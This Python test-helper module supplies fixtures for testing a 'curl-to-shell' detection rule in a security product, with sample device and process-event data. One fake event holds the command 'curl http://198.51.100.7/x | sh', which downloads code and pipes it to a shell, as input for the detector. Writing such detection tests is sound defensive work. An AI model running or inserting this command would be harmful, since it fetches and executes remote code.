"""Rules, callers and rows for the tests of detection rules."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from typing import Any

import pytest

from shieldwall.detection.rules.deciding import MANAGE
from shieldwall.detection.rules.rule import Rule, RuleHit
from shieldwall.detection.rules.service import RuleService
from shieldwall.devices.models import Device, DeviceGroup
from shieldwall.identity.principal import Principal
from shieldwall.state.engine import Database
from shieldwall.times import now
from tests.conftest import TENANT

DEVICE = "a" * 40
START = datetime(2026, 11, 20, 10, 0, tzinfo=UTC)
ANYBODY = Principal(TENANT, "app", "app", frozenset({MANAGE}))


def rule(**more: Any) -> Rule:
    values: dict[str, Any] = {
        "id": "curl-to-shell",
        "name": "Curl and a shell",
        "query": "DeviceProcessEvents | where ProcessCommandLine has 'curl'",
        "title": "Download piped to a shell on {{DeviceName}}",
        "severity": "Medium",
        "category": "Execution",
        "techniques": ("T1059.004",),
        "description": "{{FileName}} was run by {{AccountName}}.",
    }
    return Rule(**(values | more))


def row(number: int = 0, **more: Any) -> dict[str, Any]:
    values: dict[str, Any] = {
        "Timestamp": START + timedelta(minutes=number),
        "DeviceId": DEVICE,
        "DeviceName": "web01",
        "MachineGroup": "",
        "ReportId": 1000 + number,
        "FileName": "curl",
        "FolderPath": "/usr/bin/curl",
        "SHA1": "1" * 40,
        "SHA256": "2" * 64,
        "ProcessId": 500 + number,
        "ProcessCommandLine": "curl http://198.51.100.7/x | sh",
        "ProcessCreationTime": START + timedelta(minutes=number),
        "AccountName": "www-data",
        "AccountDomain": "web01",
        "InitiatingProcessId": 400,
        "InitiatingProcessFileName": "bash",
        "InitiatingProcessCreationTime": START,
    }
    return values | more


def hit(number: int = 0, rule_id: str = "curl-to-shell", tenant: str = TENANT, **more: Any) -> RuleHit:
    return RuleHit(rule_id, tenant, "DeviceProcessEvents", row(number, **more))


@pytest.fixture
def rules(database: Database) -> RuleService:
    """The service over a state with one device, of the group Servers."""
    with database.session(TENANT) as session:
        group = DeviceGroup(name="Servers")
        session.add_all([group, DeviceGroup(name="Desks")])
        session.flush()
        time = now()
        session.add(
            Device(
                id=DEVICE,
                computer_dns_name="web01",
                first_seen=time,
                last_seen=time,
                last_contact=time,
                public_key="key",
                device_group_id=group.id,
            )
        )
    return RuleService(database)
